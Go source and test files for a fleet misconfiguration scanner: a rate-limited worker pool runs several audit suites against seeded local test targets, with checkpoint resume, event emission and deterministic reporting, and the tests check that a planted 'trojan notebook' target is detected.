		{TargetID: "tgt-0001", Preset: "root", Score: 40, Reachable: true},
	}
	reversed := []Result{results[2], results[1], results[0]}
	a := BuildReport(3, results, 2)
	b := BuildReport(3, reversed, 2)
	if a.Render() != b.Render() {
		t.Fatal("report depends on result order")
	}
	// Score ties broken by target ID.
	if a.Worst[0].TargetID != "tgt-0001" || a.Worst[1].TargetID != "tgt-0002" {
		t.Fatalf("worst = %+v", a.Worst)
	}
}

func TestTokenBucketThrottles(t *testing.T) {
	tb := newTokenBucket(100, 1) // 100/s, burst 1
	ctx := context.Background()
	start := time.Now()
	for i := 0; i < 5; i++ {
		if err := tb.Wait(ctx); err != nil {
			t.Fatal(err)
		}
	}
	// 1 burst token + 4 refills at 10ms each ≈ 40ms minimum.
	if el := time.Since(start); el < 25*time.Millisecond {
		t.Fatalf("5 tokens at 100/s took only %s", el)
	}
}

func TestTokenBucketCancel(t *testing.T) {
	tb := newTokenBucket(0.1, 1) // one token per 10s
	ctx, cancel := context.WithCancel(context.Background())
	if err := tb.Wait(ctx); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- tb.Wait(ctx) }()
	cancel()
	select {
	case err := <-done:
		if err == nil {
			t.Fatal("cancelled wait returned nil")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("cancelled wait did not return")
	}
}

func TestTokenBucketUnlimited(t *testing.T) {
	tb := newTokenBucket(0, 0)
	start := time.Now()
	for i := 0; i < 1000; i++ {
		if err := tb.Wait(context.Background()); err != nil {
			t.Fatal(err)
		}
	}
	if el := time.Since(start); el > time.Second {
		t.Fatalf("unlimited bucket throttled: %s", el)
	}
}

// ---- Multi-suite deep sweeps ----

var allSuites = []string{"misconfig", "nbscan", "crypto", "intel"}

func TestDeepScanSuitesDeterministic(t *testing.T) {
	f := spawnFleet(t, 21, 8)
	a, err := Scan(context.Background(), f.Targets(), Options{Workers: 1, Suites: allSuites})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Scan(context.Background(), f.Targets(), Options{Workers: 8, Suites: allSuites})
	if err != nil {
		t.Fatal(err)
	}
	if a.Render() != b.Render() {
		t.Fatalf("deep census differs with worker count:\n%s\nvs\n%s", a.Render(), b.Render())
	}
	// The everything-wrong anchor has open auth, so the seeded trojan
	// notebook must surface through the deep-scan and intel suites,
	// and the crypto inventory flags every target.
	for _, suite := range allSuites {
		if a.BySuite[suite] == 0 {
			t.Errorf("suite %s contributed no findings: %+v", suite, a.BySuite)
		}
	}
	if a.BySuite["nbscan"] < 2 || a.BySuite["intel"] < 2 {
		t.Errorf("trojan notebook under-detected: %+v", a.BySuite)
	}
}

func TestScanUnknownSuiteFailsFast(t *testing.T) {
	f := spawnFleet(t, 1, 2)
	_, err := Scan(context.Background(), f.Targets(), Options{Suites: []string{"misconfig", "bogus"}})
	if err == nil || !strings.Contains(err.Error(), "unknown suite") {
		t.Fatalf("err = %v, want unknown-suite failure", err)
	}
}

func TestSweepEmitsFindingsThroughEventSink(t *testing.T) {
	f := spawnFleet(t, 21, 6)
	var mu sync.Mutex
	var events []trace.Event
	sink := trace.SinkFunc(func(e trace.Event) {
		mu.Lock()
		events = append(events, e)
		mu.Unlock()
	})
	rep, err := Scan(context.Background(), f.Targets(), Options{
		Workers: 4, Suites: allSuites, Events: sink,
	})
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for _, n := range rep.BySuite {
		total += n
	}
	if len(events) != total {
		t.Fatalf("emitted %d events for %d findings", len(events), total)
	}
	for _, e := range events {
		if e.Kind != trace.KindScanFinding {
			t.Fatalf("event kind = %s", e.Kind)
		}
		if e.Field("target_id") == "" || e.Field("suite") == "" || e.Field("severity") == "" {
			t.Fatalf("event missing scan fields: %+v", e)
		}
	}
}

func TestSweepRecordsPerSuiteTiming(t *testing.T) {
	f := spawnFleet(t, 21, 4)
	rep, err := Scan(context.Background(), f.Targets(), Options{Workers: 2, Suites: allSuites})
	if err != nil {
		t.Fatal(err)
	}
	for _, suite := range allSuites {
		st, ok := rep.Stats.PerSuite[suite]
		if !ok || st.Targets != 4 {
			t.Fatalf("per-suite stats for %s = %+v (%v)", suite, st, rep.Stats.PerSuite)
		}
	}
	if !strings.Contains(rep.Stats.Render(), "sweep: suite") {
		t.Fatalf("stats render lacks per-suite rows:\n%s", rep.Stats.Render())
	}
}

// ---- Checkpoint schema v2 ----

func TestCheckpointHeaderWritten(t *testing.T) {
	f := spawnFleet(t, 5, 4)
	ckpt := filepath.Join(t.TempDir(), "sweep.ckpt")
	if _, err := Scan(context.Background(), f.Targets(), Options{Workers: 2, CheckpointPath: ckpt}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(ckpt)
	if err != nil {
		t.Fatal(err)
	}
	first := strings.SplitN(string(data), "\n", 2)[0]
	var hdr struct {
		Version   int      `json:"fleet_checkpoint"`
		Signature string   `json:"fleet_sig"`
		Suites    []string `json:"suites"`
	}
	if err := json.Unmarshal([]byte(first), &hdr); err != nil {
		t.Fatalf("header line %q: %v", first, err)
	}
	if hdr.Version != CheckpointVersion || hdr.Signature == "" || len(hdr.Suites) == 0 {
		t.Fatalf("header = %+v", hdr)
	}
	if hdr.Signature != FleetSignature(f.Targets()) {
		t.Fatalf("header signature %s != fleet signature %s", hdr.Signature, FleetSignature(f.Targets()))
	}
}

func TestLoadCheckpointLegacyHeaderless(t *testing.T) {
	// A v1 checkpoint: no header, pre-suite Result JSON whose findings
	// carry no suite field. It must load with every record normalized
	// to the misconfig suite, so old sweeps stay resumable.
	path := filepath.Join(t.TempDir(), "legacy.ckpt")
	legacy := `{"target_id":"tgt-0000","preset":"hardened","addr":"127.0.0.1:1","reachable":true,"open_access":false,"terminals_open":false,"wildcard_cors":false,"score":100,"findings":null}
{"target_id":"tgt-0001","preset":"no-auth","addr":"127.0.0.1:2","reachable":true,"open_access":true,"terminals_open":false,"wildcard_cors":false,"score":55,"findings":[{"check_id":"JPY-001","title":"Authentication disabled","severity":"critical","class":"security_misconfiguration","evidence":"x","remediation":"y"}]}
`
	if err := os.WriteFile(path, []byte(legacy), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := LoadCheckpoint(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 {
		t.Fatalf("loaded %d records, want 2", len(got))
	}
	r := got["tgt-0001"]
	if len(r.Suites) != 1 || r.Suites[0] != "misconfig" {
		t.Fatalf("legacy record suites = %v", r.Suites)
	}
	if len(r.Findings) != 1 || r.Findings[0].Suite != "misconfig" || r.Findings[0].CheckID != "JPY-001" {
		t.Fatalf("legacy finding not normalized: %+v", r.Findings)
	}
}

func TestLoadCheckpointRejectsNewerVersion(t *testing.T) {
	path := filepath.Join(t.TempDir(), "future.ckpt")
	content := `{"fleet_checkpoint":99,"fleet_sig":"abcd"}
{"target_id":"tgt-0000","score":100}
`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadCheckpoint(path); err == nil || !strings.Contains(err.Error(), "schema v99") {
		t.Fatalf("newer-version checkpoint accepted: %v", err)
	}
}

func TestCheckpointSuiteSetMismatchRejected(t *testing.T) {
	f := spawnFleet(t, 5, 4)
	ckpt := filepath.Join(t.TempDir(), "sweep.ckpt")
	if _, err := Scan(context.Background(), f.Targets(), Options{Workers: 2, CheckpointPath: ckpt}); err != nil {
		t.Fatal(err)
	}
	_, err := Scan(context.Background(), f.Targets(), Options{
		Workers: 2, CheckpointPath: ckpt, Suites: allSuites,
	})
	if err == nil || !strings.Contains(err.Error(), "suites") {
		t.Fatalf("suite-set mismatch accepted: %v", err)
	}
}

func TestFleetSignatureIgnoresAddressesAndOrder(t *testing.T) {
	a := spawnFleet(t, 7, 6)
	b := spawnFleet(t, 7, 6)
	sa, sb := FleetSignature(a.Targets()), FleetSignature(b.Targets())
	if sa != sb {
		t.Fatalf("same seed, different signatures: %s vs %s", sa, sb)
	}
	rev := a.Targets()
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	if FleetSignature(rev) != sa {
		t.Fatal("signature depends on target order")
	}
	c := spawnFleet(t, 8, 6)
	if FleetSignature(c.Targets()) == sa {
		t.Fatal("different seeds share a signature")
	}
}

func TestHostileTargetFindingsSpanSuites(t *testing.T) {
	f := spawnFleet(t, 1, 2) // tgt-0001 = everything-wrong anchor
	var hostile Target
	for _, tg := range f.Targets() {
		if tg.ID == "tgt-0001" {
			hostile = tg
		}
	}
	res, _, err := scanOne(context.Background(), hostile,
		mustResolve(t, allSuites), allSuites, 3*time.Second)
	if err != nil {
		t.Fatalf("scanOne incomplete: %v", err)
	}
	bySuite := scan.SuiteCounts(res.Findings)
	for _, suite := range allSuites {
		if bySuite[suite] == 0 {
			t.Errorf("hostile target has no %s findings: %+v", suite, bySuite)
		}
	}
	if res.Score != 0 {
		t.Errorf("everything-wrong anchor scored %v, want 0", res.Score)
	}
}

func mustResolve(t *testing.T, names []string) []scan.Suite {
	t.Helper()
	suites, err := scan.Resolve(names)
	if err != nil {
		t.Fatal(err)
	}
	return suites
}

func TestCheckpointHeaderOnlySuiteMismatchRejected(t *testing.T) {
	// A sweep killed after writing the header but before any result
	// must still pin the suite set: the header alone carries it.
	f := spawnFleet(t, 5, 4)
	ckpt := filepath.Join(t.TempDir(), "sweep.ckpt")
	if _, err := Scan(context.Background(), f.Targets(), Options{Workers: 2, CheckpointPath: ckpt}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(ckpt)
	if err != nil {
		t.Fatal(err)
	}
	headerOnly := strings.SplitN(string(data), "\n", 2)[0] + "\n"
	if err := os.WriteFile(ckpt, []byte(headerOnly), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err = Scan(context.Background(), f.Targets(), Options{
		Workers: 2, CheckpointPath: ckpt, Suites: allSuites,
	})
	if err == nil || !strings.Contains(err.Error(), "suites") {
		t.Fatalf("header-only suite mismatch accepted: %v", err)
	}
}
