package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"
	"time"

	"repro/internal/metrics"
	"repro/internal/misconfig"
)

// Options tunes a fleet sweep.
type Options struct {
	Workers int           // concurrent probes; default 4
	Rate    float64       // probes per second across all workers; 0 = unlimited
	Burst   int           // token-bucket burst; default Workers
	Timeout time.Duration // per-target probe timeout; default 5s
	TopK    int           // worst targets listed in the report; default 5

	// Stream receives one JSON line per freshly scanned target as the
	// sweep runs. Optional.
	Stream io.Writer

	// CheckpointPath names a JSONL checkpoint file. Targets already
	// recorded there are skipped (their results folded into the
	// report as resumed), and every fresh result is appended, so an
	// interrupted sweep continues where it left off.
	CheckpointPath string
}

func (o Options) withDefaults() Options {
	if o.Workers <= 0 {
		o.Workers = 4
	}
	if o.Burst <= 0 {
		o.Burst = o.Workers
	}
	if o.Timeout <= 0 {
		o.Timeout = 5 * time.Second
	}
	if o.TopK <= 0 {
		o.TopK = 5
	}
	return o
}

// Result is the census record for one target: the static posture
// audit of its configuration merged with what a live unauthenticated
// probe observed.
type Result struct {
	TargetID      string              `json:"target_id"`
	Preset        string              `json:"preset"`
	Addr          string              `json:"addr"`
	Reachable     bool                `json:"reachable"`
	OpenAccess    bool                `json:"open_access"`
	TerminalsOpen bool                `json:"terminals_open"`
	WildcardCORS  bool                `json:"wildcard_cors"`
	Score         float64             `json:"score"`
	Findings      []misconfig.Finding `json:"findings"`

	// Resumed marks results loaded from a checkpoint rather than
	// scanned this sweep. Not persisted.
	Resumed bool `json:"-"`
}

// Stats is the wall-clock performance of one sweep — reported beside
// the census but excluded from it, so reports stay deterministic.
type Stats struct {
	Scanned       int
	Resumed       int
	TargetsPerSec float64
	ProbeP50MS    float64
	ProbeP95MS    float64
	ProbeMaxMS    float64
	MaxInFlight   int64
}

// Scan probes every target through a bounded worker pool and returns
// the aggregated census. On context cancellation it returns the
// partial report (every completed target included exactly once)
// together with the context error.
func Scan(ctx context.Context, targets []Target, opts Options) (*Report, error) {
	opts = opts.withDefaults()

	done := map[string]Result{}
	if opts.CheckpointPath != "" {
		loaded, err := LoadCheckpoint(opts.CheckpointPath)
		if err != nil {
			return nil, err
		}
		done = loaded
	}
	var ckpt *checkpointWriter
	if opts.CheckpointPath != "" {
		w, err := openCheckpoint(opts.CheckpointPath)
		if err != nil {
			return nil, err
		}
		ckpt = w
		defer ckpt.Close()
	}

	var resumed []Result
	var pending []Target
	seen := map[string]bool{}
	for _, t := range targets {
		if seen[t.ID] {
			continue
		}
		seen[t.ID] = true
		if r, ok := done[t.ID]; ok {
			if r.Preset != t.Preset {
				return nil, fmt.Errorf(
					"fleet: checkpoint %s records %s as preset %q but the current fleet has %q (checkpoint from a different seed or fleet?)",
					opts.CheckpointPath, t.ID, r.Preset, t.Preset)
			}
			r.Resumed = true
			resumed = append(resumed, r)
			continue
		}
		pending = append(pending, t)
	}

	// scanCtx lets a collector-side failure (checkpoint or stream
	// write) stop the sweep without conflating it with caller
	// cancellation, which is still reported from the parent ctx.
	scanCtx, cancelScan := context.WithCancel(ctx)
	defer cancelScan()

	limiter := newTokenBucket(opts.Rate, opts.Burst)
	jobs := make(chan Target)
	results := make(chan timedResult)

	var inFlight metrics.Gauge
	var maxInFlight metrics.Gauge
	var wg sync.WaitGroup
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for t := range jobs {
				if scanCtx.Err() != nil {
					continue // drain without scanning
				}
				if err := limiter.Wait(scanCtx); err != nil {
					continue
				}
				maxInFlight.Max(inFlight.Add(1))
				start := time.Now()
				res := scanOne(scanCtx, t, opts.Timeout)
				inFlight.Add(-1)
				results <- timedResult{res, time.Since(start)}
			}
		}()
	}
	go func() {
		for _, t := range pending {
			jobs <- t
		}
		close(jobs)
		wg.Wait()
		close(results)
	}()

	tput := metrics.NewThroughput()
	latency := &metrics.Histogram{}
	var fresh []Result
	var sinkErr error // first stream/checkpoint failure; sweep stops, channel still drains
	for tr := range results {
		if sinkErr != nil {
			continue
		}
		tput.Tick()
		latency.Observe(float64(tr.elapsed.Milliseconds()))
		if opts.Stream != nil {
			line, err := json.Marshal(tr.Result)
			if err == nil {
				line = append(line, '\n')
				_, err = opts.Stream.Write(line)
			}
			if err != nil {
				sinkErr = fmt.Errorf("fleet: stream: %w", err)
				cancelScan()
				continue
			}
		}
		if ckpt != nil {
			if err := ckpt.Append(tr.Result); err != nil {
				sinkErr = err
				cancelScan()
				continue
			}
		}
		fresh = append(fresh, tr.Result)
	}
	if sinkErr != nil {
		return nil, sinkErr
	}

	all := append(append([]Result{}, resumed...), fresh...)
	report := BuildReport(len(seen), all, opts.TopK)
	report.Stats = Stats{
		Scanned:       len(fresh),
		Resumed:       len(resumed),
		TargetsPerSec: tput.Rate(),
		ProbeP50MS:    latency.Quantile(0.5),
		ProbeP95MS:    latency.Quantile(0.95),
		ProbeMaxMS:    latency.Max(),
		MaxInFlight:   maxInFlight.Value(),
	}
	return report, ctx.Err()
}

type timedResult struct {
	Result
	elapsed time.Duration
}

// scanOne audits one target: static checks against the configuration
// the knobs imply, merged with the live probe's findings, scored as
// one posture.
func scanOne(ctx context.Context, t Target, timeout time.Duration) Result {
	static := misconfig.Scan(t.Knobs.Config())
	pr := misconfig.ProbeCtx(ctx, t.Addr, timeout)
	findings := misconfig.MergeFindings(pr.Findings, static)
	return Result{
		TargetID:      t.ID,
		Preset:        t.Preset,
		Addr:          t.Addr,
		Reachable:     pr.Reachable,
		OpenAccess:    pr.OpenAccess,
		TerminalsOpen: pr.TerminalsEnabled,
		WildcardCORS:  pr.WildcardCORS,
		Score:         misconfig.Score(findings),
		Findings:      findings,
	}
}

// tokenBucket is a minimal context-aware token-bucket rate limiter.
type tokenBucket struct {
	mu     sync.Mutex
	rate   float64 // tokens per second; <= 0 means unlimited
	burst  float64
	tokens float64
	last   time.Time
}

func newTokenBucket(rate float64, burst int) *tokenBucket {
	return &tokenBucket{
		rate:   rate,
		burst:  float64(burst),
		tokens: float64(burst),
		last:   time.Now(),
	}
}

// Wait blocks until a token is available or the context is cancelled.
func (tb *tokenBucket) Wait(ctx context.Context) error {
	if tb.rate <= 0 {
		return ctx.Err()
	}
	for {
		tb.mu.Lock()
		now := time.Now()
		tb.tokens += now.Sub(tb.last).Seconds() * tb.rate
		if tb.tokens > tb.burst {
			tb.tokens = tb.burst
		}
		tb.last = now
		if tb.tokens >= 1 {
			tb.tokens--
			tb.mu.Unlock()
			return nil
		}
		wait := time.Duration((1 - tb.tokens) / tb.rate * float64(time.Second))
		tb.mu.Unlock()
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(wait):
		}
	}
}

// sortResults orders results by target ID — the canonical order every
// aggregation walks, making reports independent of completion order.
func sortResults(rs []Result) {
	sort.Slice(rs, func(i, j int) bool { return rs[i].TargetID < rs[j].TargetID })
}
