package fleet

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"slices"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/metrics"
	"repro/internal/scan"
	"repro/internal/trace"
)

// Options tunes a fleet sweep.
type Options struct {
	Workers int           // concurrent probes; default 4
	Rate    float64       // probes per second across all workers; 0 = unlimited
	Burst   int           // token-bucket burst; default Workers
	Timeout time.Duration // per-target probe timeout; default 5s
	TopK    int           // worst targets listed in the report; default 5

	// Suites names the scanner suites to run per target, resolved
	// against the scan registry. Empty means {"misconfig"} — the
	// classic posture-plus-probe census.
	Suites []string

	// Stream receives one JSON line per freshly scanned target as the
	// sweep runs. Optional.
	Stream io.Writer

	// Events receives every census finding projected as a trace event
	// (kind scan_finding): checkpoint-resumed results re-emit at sweep
	// start (in target order) and fresh results as they complete, so
	// the alert tally downstream always covers the whole census.
	// Wiring a bounded trace.Stage over the rules engine here makes a
	// sweep raise alerts through the same pipeline as live monitoring.
	// Emission happens on the Scan goroutine. Optional.
	Events trace.Sink

	// CheckpointPath names a JSONL checkpoint file. Targets already
	// recorded there are skipped (their results folded into the
	// report as resumed), and every fresh result is appended, so an
	// interrupted sweep continues where it left off.
	CheckpointPath string
}

func (o Options) withDefaults() Options {
	if o.Workers <= 0 {
		o.Workers = 4
	}
	if o.Burst <= 0 {
		o.Burst = o.Workers
	}
	if o.Timeout <= 0 {
		o.Timeout = 5 * time.Second
	}
	if o.TopK <= 0 {
		o.TopK = 5
	}
	if len(o.Suites) == 0 {
		o.Suites = []string{"misconfig"}
	}
	return o
}

// Result is the census record for one target: everything the enabled
// suites learned about it, scored as one posture.
type Result struct {
	TargetID      string         `json:"target_id"`
	Preset        string         `json:"preset"`
	Addr          string         `json:"addr"`
	Suites        []string       `json:"suites"`
	Reachable     bool           `json:"reachable"`
	OpenAccess    bool           `json:"open_access"`
	TerminalsOpen bool           `json:"terminals_open"`
	WildcardCORS  bool           `json:"wildcard_cors"`
	Score         float64        `json:"score"`
	Findings      []scan.Finding `json:"findings"`

	// Resumed marks results loaded from a checkpoint rather than
	// scanned this sweep. Not persisted.
	Resumed bool `json:"-"`
}

// SuiteStat is the wall-clock cost of one suite across a sweep.
type SuiteStat struct {
	Targets int
	TotalMS float64
	MaxMS   float64
}

// Stats is the wall-clock performance of one sweep — reported beside
// the census but excluded from it, so reports stay deterministic.
type Stats struct {
	Scanned       int
	Resumed       int
	TargetsPerSec float64
	ProbeP50MS    float64
	ProbeP95MS    float64
	ProbeMaxMS    float64
	MaxInFlight   int64
	// Incomplete counts targets that could not be fully assessed (a
	// suite failed or cancellation landed mid-target); they are
	// neither counted nor checkpointed, so a resume rescans them.
	Incomplete int64
	PerSuite   map[string]SuiteStat
}

// Scan runs every enabled suite against every target through a
// bounded worker pool and returns the aggregated census. On context
// cancellation it returns the partial report (every completed target
// included exactly once) together with the context error.
func Scan(ctx context.Context, targets []Target, opts Options) (*Report, error) {
	opts = opts.withDefaults()
	suites, err := scan.Resolve(opts.Suites)
	if err != nil {
		return nil, err
	}
	canonical := make([]string, len(suites))
	for i, s := range suites {
		canonical[i] = s.Name()
	}
	sort.Strings(canonical)

	var dedup []Target
	seen := map[string]bool{}
	for _, t := range targets {
		if seen[t.ID] {
			continue
		}
		seen[t.ID] = true
		dedup = append(dedup, t)
	}
	sig := FleetSignature(dedup)

	done := map[string]Result{}
	if opts.CheckpointPath != "" {
		loaded, hdr, err := loadCheckpoint(opts.CheckpointPath)
		if err != nil {
			return nil, err
		}
		if hdr.Signature != "" && hdr.Signature != sig {
			return nil, fmt.Errorf(
				"fleet: checkpoint %s was written for a different fleet (signature %s, current %s); delete it or rerun with the original seed and size",
				opts.CheckpointPath, hdr.Signature, sig)
		}
		if len(hdr.Suites) > 0 && !slices.Equal(hdr.Suites, canonical) {
			return nil, fmt.Errorf(
				"fleet: checkpoint %s was written with suites %s but this sweep runs %s; mixed-suite censuses are not comparable",
				opts.CheckpointPath, strings.Join(hdr.Suites, ","), strings.Join(canonical, ","))
		}
		done = loaded
	}
	var ckpt *checkpointWriter
	if opts.CheckpointPath != "" {
		w, err := openCheckpoint(opts.CheckpointPath, checkpointHeader{
			Version: CheckpointVersion, Signature: sig, Suites: canonical,
		})
		if err != nil {
			return nil, err
		}
		ckpt = w
		defer ckpt.Close()
	}

	var resumed []Result
	var pending []Target
	for _, t := range dedup {
		if r, ok := done[t.ID]; ok {
			if r.Preset != t.Preset {
				return nil, fmt.Errorf(
					"fleet: checkpoint %s records %s as preset %q but the current fleet has %q (checkpoint from a different seed or fleet?)",
					opts.CheckpointPath, t.ID, r.Preset, t.Preset)
			}
			if !slices.Equal(r.Suites, canonical) {
				return nil, fmt.Errorf(
					"fleet: checkpoint %s records %s scanned with suites %s but this sweep runs %s; mixed-suite censuses are not comparable",
					opts.CheckpointPath, t.ID, strings.Join(r.Suites, ","), strings.Join(canonical, ","))
			}
			r.Resumed = true
			resumed = append(resumed, r)
			continue
		}
		pending = append(pending, t)
	}
	if opts.Events != nil && len(resumed) > 0 {
		// Resumed findings re-enter the pipeline too, so the alert
		// tally matches the census histograms whether or not the
		// sweep was interrupted.
		rs := append([]Result{}, resumed...)
		sortResults(rs)
		for _, r := range rs {
			emitFindings(opts.Events, r)
		}
	}

	// scanCtx lets a collector-side failure (checkpoint or stream
	// write) stop the sweep without conflating it with caller
	// cancellation, which is still reported from the parent ctx.
	scanCtx, cancelScan := context.WithCancel(ctx)
	defer cancelScan()

	limiter := newTokenBucket(opts.Rate, opts.Burst)
	jobs := make(chan Target)
	results := make(chan timedResult)

	var inFlight metrics.Gauge
	var maxInFlight metrics.Gauge
	var incomplete metrics.Gauge
	var suiteErrMu sync.Mutex
	var firstSuiteErr error // first non-cancellation suite failure, surfaced to the caller
	var wg sync.WaitGroup
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for t := range jobs {
				if scanCtx.Err() != nil {
					continue // drain without scanning
				}
				if err := limiter.Wait(scanCtx); err != nil {
					continue
				}
				maxInFlight.Max(inFlight.Add(1))
				start := time.Now()
				res, suiteMS, scanErr := scanOne(scanCtx, t, suites, canonical, opts.Timeout)
				inFlight.Add(-1)
				if scanErr != nil {
					incomplete.Add(1) // never checkpointed as done; a resume rescans it
					if !errors.Is(scanErr, context.Canceled) {
						suiteErrMu.Lock()
						if firstSuiteErr == nil {
							firstSuiteErr = fmt.Errorf("fleet: target %s: %w", t.ID, scanErr)
						}
						suiteErrMu.Unlock()
					}
					continue
				}
				results <- timedResult{res, time.Since(start), suiteMS}
			}
		}()
	}
	go func() {
		for _, t := range pending {
			jobs <- t
		}
		close(jobs)
		wg.Wait()
		close(results)
	}()

	tput := metrics.NewThroughput()
	latency := &metrics.Histogram{}
	perSuite := map[string]SuiteStat{}
	var fresh []Result
	var sinkErr error // first stream/checkpoint failure; sweep stops, channel still drains
	for tr := range results {
		if sinkErr != nil {
			continue
		}
		tput.Tick()
		latency.Observe(float64(tr.elapsed.Milliseconds()))
		for name, ms := range tr.suiteMS {
			st := perSuite[name]
			st.Targets++
			st.TotalMS += ms
			if ms > st.MaxMS {
				st.MaxMS = ms
			}
			perSuite[name] = st
		}
		if opts.Stream != nil {
			line, err := json.Marshal(tr.Result)
			if err == nil {
				line = append(line, '\n')
				_, err = opts.Stream.Write(line)
			}
			if err != nil {
				sinkErr = fmt.Errorf("fleet: stream: %w", err)
				cancelScan()
				continue
			}
		}
		if ckpt != nil {
			if err := ckpt.Append(tr.Result); err != nil {
				sinkErr = err
				cancelScan()
				continue
			}
		}
		if opts.Events != nil {
			emitFindings(opts.Events, tr.Result)
		}
		fresh = append(fresh, tr.Result)
	}
	if sinkErr != nil {
		return nil, sinkErr
	}

	all := append(append([]Result{}, resumed...), fresh...)
	report := BuildReport(len(seen), all, opts.TopK)
	report.Stats = Stats{
		Scanned:       len(fresh),
		Resumed:       len(resumed),
		TargetsPerSec: tput.Rate(),
		ProbeP50MS:    latency.Quantile(0.5),
		ProbeP95MS:    latency.Quantile(0.95),
		ProbeMaxMS:    latency.Max(),
		MaxInFlight:   maxInFlight.Value(),
		Incomplete:    incomplete.Value(),
		PerSuite:      perSuite,
	}
	if err := ctx.Err(); err != nil {
		return report, err
	}
	if firstSuiteErr != nil {
		// A failing suite must not masquerade as a clean sweep: the
		// partial census is still returned, but the caller learns how
		// many targets are missing and why.
		return report, fmt.Errorf("%d targets incomplete; first failure: %w",
			incomplete.Value(), firstSuiteErr)
	}
	return report, nil
}

type timedResult struct {
	Result
	elapsed time.Duration
	suiteMS map[string]float64
}

// scanOne runs every enabled suite against one target, merging the
// findings into one scored posture and recording per-suite wall time.
// A non-nil error means the target could not be fully assessed (a
// suite failed or the sweep was cancelled mid-target); such results
// never enter the census or the checkpoint, so a resume rescans them.
func scanOne(ctx context.Context, t Target, suites []scan.Suite, canonical []string, timeout time.Duration) (Result, map[string]float64, error) {
	st := scan.Target{
		ID: t.ID, Addr: t.Addr, Config: t.Knobs.Config(), FS: t.fs, Budget: timeout,
	}
	var lists [][]scan.Finding
	attrs := map[string]string{}
	suiteMS := make(map[string]float64, len(suites))
	for _, s := range suites {
		if err := ctx.Err(); err != nil {
			return Result{}, suiteMS, err
		}
		start := time.Now()
		out, err := s.Run(ctx, st)
		suiteMS[s.Name()] += float64(time.Since(start).Microseconds()) / 1000
		if err != nil {
			return Result{}, suiteMS, fmt.Errorf("suite %s: %w", s.Name(), err)
		}
		lists = append(lists, out.Findings)
		for k, v := range out.Attrs {
			attrs[k] = v
		}
	}
	if err := ctx.Err(); err != nil {
		// Cancellation mid-suite is swallowed by probes (an aborted
		// probe just reads as unreachable), so the context must be
		// re-checked here or a half-assessed target would be
		// checkpointed as done.
		return Result{}, suiteMS, err
	}
	findings := scan.Merge(lists...)
	return Result{
		TargetID:      t.ID,
		Preset:        t.Preset,
		Addr:          t.Addr,
		Suites:        canonical,
		Reachable:     attrs[scan.AttrReachable] == "true",
		OpenAccess:    attrs[scan.AttrOpenAccess] == "true",
		TerminalsOpen: attrs[scan.AttrTerminalsOpen] == "true",
		WildcardCORS:  attrs[scan.AttrWildcardCORS] == "true",
		Score:         scan.Score(findings),
		Findings:      findings,
	}, suiteMS, nil
}

// emitFindings projects one fresh result's findings into the event
// pipeline, tagging each event with the target it came from. The
// target ID rides in User so trace.ActorKey — and hence incident
// attribution and store actor indexes — resolve to the stable target
// identity instead of the sweep's ephemeral listen address: a census
// replayed or re-run always names the same actors.
func emitFindings(sink trace.Sink, r Result) {
	for _, f := range r.Findings {
		e := f.Event()
		e.Time = time.Now()
		e.SrcIP = r.Addr
		e.User = r.TargetID
		e.Fields["target_id"] = r.TargetID
		e.Fields["preset"] = r.Preset
		sink.Emit(e)
	}
}

// tokenBucket is a minimal context-aware token-bucket rate limiter.
type tokenBucket struct {
	mu     sync.Mutex
	rate   float64 // tokens per second; <= 0 means unlimited
	burst  float64
	tokens float64
	last   time.Time
}

func newTokenBucket(rate float64, burst int) *tokenBucket {
	return &tokenBucket{
		rate:   rate,
		burst:  float64(burst),
		tokens: float64(burst),
		last:   time.Now(),
	}
}

// Wait blocks until a token is available or the context is cancelled.
func (tb *tokenBucket) Wait(ctx context.Context) error {
	if tb.rate <= 0 {
		return ctx.Err()
	}
	for {
		tb.mu.Lock()
		now := time.Now()
		tb.tokens += now.Sub(tb.last).Seconds() * tb.rate
		if tb.tokens > tb.burst {
			tb.tokens = tb.burst
		}
		tb.last = now
		if tb.tokens >= 1 {
			tb.tokens--
			tb.mu.Unlock()
			return nil
		}
		wait := time.Duration((1 - tb.tokens) / tb.rate * float64(time.Second))
		tb.mu.Unlock()
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(wait):
		}
	}
}

// sortResults orders results by target ID — the canonical order every
// aggregation walks, making reports independent of completion order.
func sortResults(rs []Result) {
	sort.Slice(rs, func(i, j int) bool { return rs[i].TargetID < rs[j].TargetID })
}
