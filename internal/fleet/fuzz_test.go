package fleet

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// FuzzLoadCheckpoint hammers the checkpoint loader with torn lines,
// duplicate targets, version headers, and hostile JSON. Invariants:
// it never panics, and when it succeeds, no well-formed non-final
// record was silently dropped — every parseable Result line (past the
// optional header) must be present in the loaded map.
func FuzzLoadCheckpoint(f *testing.F) {
	whole, _ := json.Marshal(Result{TargetID: "tgt-0001", Preset: "no-auth", Score: 55,
		Suites: []string{"misconfig"}})
	f.Add(append(append([]byte(`{"fleet_checkpoint":2,"fleet_sig":"ab","suites":["misconfig"]}`+"\n"), whole...), '\n'))
	f.Add(append(whole, '\n'))                                                      // legacy headerless
	f.Add(append(append(append([]byte{}, whole...), '\n'), whole...))               // duplicate target
	f.Add(append(append(append([]byte{}, whole...), '\n'), []byte(`{"target_`)...)) // torn tail
